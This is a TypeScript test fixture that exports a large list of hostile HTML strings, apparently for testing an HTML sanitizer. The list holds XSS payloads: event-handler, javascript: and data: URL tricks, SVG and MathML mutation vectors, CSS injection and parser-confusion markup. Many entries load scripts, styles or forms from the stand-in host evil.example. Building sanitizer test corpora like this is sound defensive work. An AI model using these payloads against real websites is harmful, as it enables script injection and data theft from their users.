/** Markup that tries to run or fetch something: it calls `alert` and fetches `evil.example`. */
const EVIL = 'https://evil.example'

const HANDLERS = [
  'onclick', 'ondblclick', 'onmouseover', 'onmouseenter', 'onpointerdown', 'onpointerrawupdate', 'onfocus', 'onfocusin', 'onblur', 'onkeydown', 'onpaste', 'oncopy', 'onwheel',
  'onscroll', 'onscrollend', 'onanimationstart', 'ontransitionend', 'ontoggle', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onauxclick', 'onbeforeinput',
]
const handlers = HANDLERS.map((name) => `<p ${name}=alert(1) autofocus tabindex=0 contenteditable>text</p>`)

const SCRIPT_ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)', 'javascript://%0aalert(1)',
  'javascript:/*https://*/alert(1)', 'vbscript:msgbox(1)', 'livescript:alert(1)', 'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://evil.example/1', 'filesystem:https://evil.example/1',
  'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'https&#0;:javascript:alert(1)', '//evil.example/x', '\\\\evil.example\\x', 'mhtml:https://evil.example/x',
]
const addresses = SCRIPT_ADDRESSES.flatMap((address) => [`<a href="${address}">go</a>`, `<img src="${address}" alt="x"><video src="${address}" poster="${address}"></video>`])

const fetched = [
  `<img src=${EVIL}/1.png>`,
  `<img srcset="${EVIL}/2.png 1x, ${EVIL}/3.png 2x" src=/saas/media/x>`,
  `<img src="/saas/media/../../login" alt=x>`,
  `<picture><source srcset="${EVIL}/4.png"><img alt=x></picture>`,
  `<video src=${EVIL}/5.mp4 autoplay onloadstart=alert(1)><source src=${EVIL}/6.mp4><track src=${EVIL}/7.vtt default></video>`,
  `<audio src=${EVIL}/8.mp3 autoplay onerror=alert(1)></audio>`,
  `<input type=image src=${EVIL}/9.png onerror=alert(1)>`,
  `<body background=${EVIL}/10.png onload=alert(1)>text`,
  `<table background=${EVIL}/11.png><tr><td background=${EVIL}/12.png>x</td></tr></table>`,
  `<link rel=stylesheet href=${EVIL}/13.css><link rel=prefetch href=${EVIL}/14>`,
  `<link rel=import href=${EVIL}/15.html><link rel=preconnect href=${EVIL}>`,
  `<base href=${EVIL}/><a href=/x>x</a><img src=y.png>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}"><meta charset=utf-7>`,
  `<a href=https://a.example ping=${EVIL}/16 download target=_top>x</a>`,
  `<blockquote cite=${EVIL}/17>x</blockquote><q cite="javascript:alert(1)">x</q>`,
  `<bgsound src=${EVIL}/18><embed src=${EVIL}/19><object data=${EVIL}/20><param name=src value=${EVIL}></object>`,
  `<img src=x onerror=alert(1) onload=alert(1) lowsrc=${EVIL}/21 dynsrc="javascript:alert(1)">`,
  `<image src=${EVIL}/22 onerror=alert(1)>`,
  `<img/src=${EVIL}/23/onerror=alert(1)//>`,
]

const frames = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe src=${EVIL} onload=alert(1)></iframe>`,
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object type=text/html data=javascript:alert(1)><p>inside</p></object>',
  '<embed src="javascript:alert(1)" type="text/html">',
  '<applet code=x.class archive=https://evil.example/x.jar></applet>',
  '<portal src=https://evil.example onmessage=alert(1)></portal><fencedframe src=https://evil.example></fencedframe>',
  '<p srcdoc="<script>alert(1)</script>">x</p>',
]

const vectors = [
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>go</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><image href=https://evil.example/30.svg onerror=alert(1)></svg>', '<svg><style>@import url(https://evil.example/31.css);</style></svg>',
  '<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>', '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>', '<svg xmlns:xlink="x"><a xlink:href="javascript:alert(1)"><rect width=9 height=9 /></a></svg>',
  '<svg><discard onbegin=alert(1)>', '<svg><feImage href=https://evil.example/32.svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg></br><style><img title="</style><img src onerror=alert(1)>">', '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></svg>',
]

const formulas = [
  '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><svg><script>alert(1)</script></svg></annotation-xml></math>',
  '<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi></math>', '<math><mtext><p><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><semantics><annotation-xml><foreignObject><script>alert(1)</script></foreignObject></annotation-xml></semantics></math>',
]

const styles = [
  '<style>@import "https://evil.example/40.css";</style>x', '<style><img src="</style><img src=x onerror=alert(1)>"></style>', '<style>*{background:url(https://evil.example/41)}',
  '<p style="background:url(https://evil.example/42)">x</p>', '<p style="text-align:center;background-image:url(https://evil.example/43)">x</p>',
  '<p style="width:expression(alert(1))">x</p>', '<p style="-moz-binding:url(https://evil.example/44#x)">x</p>', '<p style="behavior:url(https://evil.example/45)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;opacity:0">x</p>', '<p style="text-align:center;}body{display:none">x</p>', '<p style="text-align:url(https://evil.example/46)">x</p>',
  '<p style="text-align:center/*;*/;list-style:url(https://evil.example/47)">x</p>', '<p style="text-align:\\63 enter;content:url(https://evil.example/48)">x</p>',
  '<p style=\'text-align:center"onclick="alert(1)\'>x</p>', '<p style="cursor:url(https://evil.example/49),auto">x</p>', '<p style="--x:url(https://evil.example/50);mask:var(--x)">x</p>',
  '<p style="font-family:x;src:url(https://evil.example/51)" class="ant-modal-mask" id="root">x</p>', '<font style="animation:x 1s" onanimationstart=alert(1) color=red>x</font>',
]

const nesting = [
  '<p><b><p></b><i></p>x</i><script>alert(1)</script>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<p title="<img src=x onerror=alert(1)>">x',
  '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>', '<table><p><tr><td><img src=x onerror=alert(1)></table>', '<p/<img src=x onerror=alert(1)>>', '<p <img src=x onerror=alert(1)>>x</p>',
  '<ul><li><table><ul><li onclick=alert(1)>x</table></li>', '<img """><script>alert(1)</script>">', '<h2><h3><p><h2 onclick=alert(1)>x', '</p></td></body></html><script>alert(1)</script>',
  `${'<blockquote>'.repeat(600)}<img src=x onerror=alert(1)>`, `${'<a href=https://a.example>'.repeat(50)}<script>alert(1)</script>`, '<img src=x onerror=alert(1)', '<p>x</p><img src="x" onerror="alert(1)',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>', '<li><li></ul></ol><figure><figcaption><script>alert(1)',
]

const texts = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '<option>&lt;img src=x onerror=alert(1)&gt;</option>', '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>', '<title></title><img src=x onerror=alert(1)></title>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template>', '<template><template><script>alert(1)</script></template></template>', '<p><template shadowrootmode=open><script>alert(1)</script></template></p>',
  '<!--><img src=x onerror=alert(1)>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><script>alert(1)</script>',
  '<?php echo "<script>alert(1)</script>" ?>', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;', '<plaintext><img src=x onerror=alert(1)>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x alt="`><script>alert(1)</script>">', '<figcaption>\u2028<script>alert(1)</script>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<p>&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;</p>',
]

const forms = [
  '<form action="javascript:alert(1)"><button>x</button></form>', `<form action=${EVIL}/60><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x`, '<input onfocus=alert(1) autofocus>', '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>', '<marquee onstart=alert(1)>x</marquee>', '<keygen autofocus onfocus=alert(1)>', '<isindex action=javascript:alert(1) type=image>', '<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>y</button>',
  '<button commandfor=x command=show-modal onclick=alert(1)>x</button>', '<img name=getElementById><form name=body><input name=attributes></form>', '<a id=defaultView name=location href=https://a.example>x</a><form id=cookie></form>',
  '<script>alert(1)</script>', '<script src=https://evil.example/70.js></script>', '<script type=module>import "https://evil.example/71.js"</script>', '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/72"]}]}</script>',
  '<script type=importmap>{"imports":{"x":"https://evil.example/73"}}</script>', '<ScRiPt>alert(1)</sCrIpT >', '<script/x>alert(1)</script/y>', '<x-element onclick=alert(1) is=y><slot onslotchange=alert(1)>x</slot></x-element>', '<p is="x-y" part="a" slot="b" nonce="c">x</p>',
]

export const hostileHtml: readonly string[] = [...handlers, ...addresses, ...fetched, ...frames, ...vectors, ...formulas, ...styles, ...nesting, ...texts, ...forms]
